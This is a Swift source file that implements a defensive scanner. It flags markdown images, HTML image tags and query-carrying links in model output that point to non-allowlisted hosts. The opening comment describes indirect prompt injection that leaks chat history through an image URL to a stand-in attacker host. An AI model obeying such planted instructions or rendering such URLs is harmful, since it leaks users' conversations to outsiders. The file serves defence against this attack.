/// Images and links in a model's answer that can carry data to another host (guide: indirect prompt injection —
/// "data exfiltration through markdown images": a planted instruction makes the model render
/// `![x](https://attacker.example/?q=<chat history>)`, and the client's renderer fetches it with no click).
///
/// Found, in Unicode scalar offsets of the text:
/// - `MARKDOWN_IMAGE`: `![alt](http…)`, and `![alt][ref]` whose `[ref]: http…` definition is in the text (the
///   definition is reported);
/// - `HTML_IMAGE`: `<img … src="http…">`;
/// - `MARKDOWN_LINK`: `[text](http…)` or a `[ref]: http…` definition whose URL has a query or a fragment — where
///   data rides (a link needs a click, so plain links are left alone).
///
/// Hosts in `allowedHosts` (and their subdomains) are never reported.
public enum LinkScanner {
    public struct Link: Sendable, Hashable {
        public var type: String
        public var start: Int
        public var end: Int
        public var host: String
    }

    /// Longest construct looked at, in scalars; longer text is not a plausible image or link.
    static let maxLength = 4096

    public static func find(_ text: String, allowedHosts: [String] = []) -> [Link] {
        let s = Array(text.unicodeScalars)
        guard s.contains(where: { $0 == "(" || $0 == "<" || $0 == ":" }) else { return [] }
        var links: [Link] = []
        var imageRefs = Set<String>()
        var i = 0
        while i < s.count {
            let c = s[i]
            if c == "[" {
                let isImage = i > 0 && s[i - 1] == "!"
                let start = isImage ? i - 1 : i
                guard let close = closing(s, from: i + 1, open: "[", close: "]") else { i += 1; continue }
                let after = close + 1
                if after < s.count, s[after] == "(", let (urlEnd, end) = url(s, from: after + 1, terminators: [")", " ", "\n", "\t"]) {
                    let target = String(String.UnicodeScalarView(s[(after + 1)..<urlEnd]))
                    if let host = host(of: target), !allowed(host, allowedHosts), isImage || carriesData(target) {
                        let closeParen = end < s.count && s[end] == ")" ? end + 1 : closingParen(s, from: end) ?? end
                        links.append(Link(type: isImage ? "MARKDOWN_IMAGE" : "MARKDOWN_LINK", start: start, end: closeParen, host: host))
                    }
                    i = max(after + 1, urlEnd)
                    continue
                }
                if isImage, after < s.count, s[after] == "[", let refClose = closing(s, from: after + 1, open: "[", close: "]") {
                    imageRefs.insert(String(String.UnicodeScalarView(s[(after + 1)..<refClose])).lowercased())
                    i = refClose + 1
                    continue
                }
                i = after
                continue
            }
            if c == "<", i + 4 < s.count, String(String.UnicodeScalarView(s[(i + 1)..<(i + 4)])).lowercased() == "img",
               let end = s[(i + 1)...].prefix(maxLength).firstIndex(where: { $0 == ">" || $0 == "<" }), s[end] == ">" {
                let tag = String(String.UnicodeScalarView(s[i...end]))
                if let target = htmlSource(tag), let host = host(of: target), !allowed(host, allowedHosts) {
                    links.append(Link(type: "HTML_IMAGE", start: i, end: end + 1, host: host))
                }
                i = end + 1
                continue
            }
            i += 1
        }
        // Reference definitions: `[ref]: http…` at a line start.
        var lineStart = 0
        while lineStart < s.count {
            var lineEnd = lineStart
            while lineEnd < s.count, s[lineEnd] != "\n" { lineEnd += 1 }
            var j = lineStart
            while j < lineEnd, j - lineStart < 3, s[j] == " " { j += 1 }
            if j < lineEnd, s[j] == "[", let close = closing(s, from: j + 1, open: "[", close: "]"), close + 1 < lineEnd, s[close + 1] == ":" {
                let label = String(String.UnicodeScalarView(s[(j + 1)..<close])).lowercased()
                var k = close + 2
                while k < lineEnd, s[k] == " " || s[k] == "\t" { k += 1 }
                var urlEnd = k
                while urlEnd < lineEnd, s[urlEnd] != " ", s[urlEnd] != "\t" { urlEnd += 1 }
                let target = String(String.UnicodeScalarView(s[k..<urlEnd]))
                if let host = host(of: target), !allowed(host, allowedHosts) {
                    if imageRefs.contains(label) {
                        links.append(Link(type: "MARKDOWN_IMAGE", start: j, end: lineEnd, host: host))
                    } else if carriesData(target) {
                        links.append(Link(type: "MARKDOWN_LINK", start: j, end: lineEnd, host: host))
                    }
                }
            }
            lineStart = lineEnd + 1
        }
        return links.sorted { $0.start < $1.start }
    }

    /// Index of the bracket closing one opened just before `from`, on the same line; another opening bracket
    /// first means no match (so every bracket is looked at once: linear in the text).
    static func closing(_ s: [Unicode.Scalar], from: Int, open: Unicode.Scalar, close: Unicode.Scalar) -> Int? {
        var j = from
        while j < s.count, j - from < 1024 {
            let c = s[j]
            if c == "\n" || c == open { return nil }
            if c == close { return j }
            j += 1
        }
        return nil
    }

    /// A URL starting at `from` (after optional `<`): its end, and where scanning continues.
    static func url(_ s: [Unicode.Scalar], from: Int, terminators: Set<Unicode.Scalar>) -> (Int, Int)? {
        var j = from
        while j < s.count, s[j] == " ", j - from < 16 { j += 1 }
        let start = j
        // Only http(s) and protocol-relative targets: check the scheme before reading further.
        let head = String(String.UnicodeScalarView(s[start..<min(s.count, start + 8)])).lowercased()
        guard head.hasPrefix("http://") || head.hasPrefix("https://") || head.hasPrefix("//") else { return nil }
        var depth = 0
        while j < s.count, j - start < maxLength {
            let c = s[j]
            if c == "(" { depth += 1 } else if c == ")" {
                if depth == 0 { break }
                depth -= 1
            } else if terminators.contains(c) { break }
            j += 1
        }
        return j > start ? (j, j) : nil
    }

    /// The `)` closing a markdown target after a title (`(url "title")`), on the same line.
    static func closingParen(_ s: [Unicode.Scalar], from: Int) -> Int? {
        var j = from
        while j < s.count, j - from < 512, s[j] != "\n" {
            if s[j] == ")" { return j + 1 }
            j += 1
        }
        return nil
    }

    static func htmlSource(_ tag: String) -> String? {
        let lower = tag.lowercased()
        guard let range = lower.range(of: "src") else { return nil }
        var rest = tag[range.upperBound...].drop { $0 == " " }
        guard rest.first == "=" else { return nil }
        rest = rest.dropFirst().drop { $0 == " " }
        if let quote = rest.first, quote == "\"" || quote == "'" {
            return String(rest.dropFirst().prefix { $0 != quote })
        }
        return String(rest.prefix { $0 != " " && $0 != ">" })
    }

    /// Lower-cased host of an http(s) or protocol-relative URL.
    public static func host(of url: String) -> String? {
        let lower = url.lowercased()
        let rest: Substring
        if lower.hasPrefix("https://") { rest = lower.dropFirst(8) }
        else if lower.hasPrefix("http://") { rest = lower.dropFirst(7) }
        else if lower.hasPrefix("//") { rest = lower.dropFirst(2) }
        else { return nil }
        var host = rest.prefix { $0 != "/" && $0 != "?" && $0 != "#" }
        if let at = host.lastIndex(of: "@") { host = host[host.index(after: at)...] }
        if host.hasPrefix("[") { return host.prefix { $0 != "]" }.dropFirst().description }
        let name = host.prefix { $0 != ":" }
        return name.isEmpty ? nil : String(name)
    }

    static func allowed(_ host: String, _ allowedHosts: [String]) -> Bool {
        allowedHosts.contains { host == $0 || host.hasSuffix("." + $0) }
    }

    /// A query or fragment, where data rides.
    static func carriesData(_ url: String) -> Bool {
        url.contains("?") || url.contains("#") || url.contains("=")
    }
}
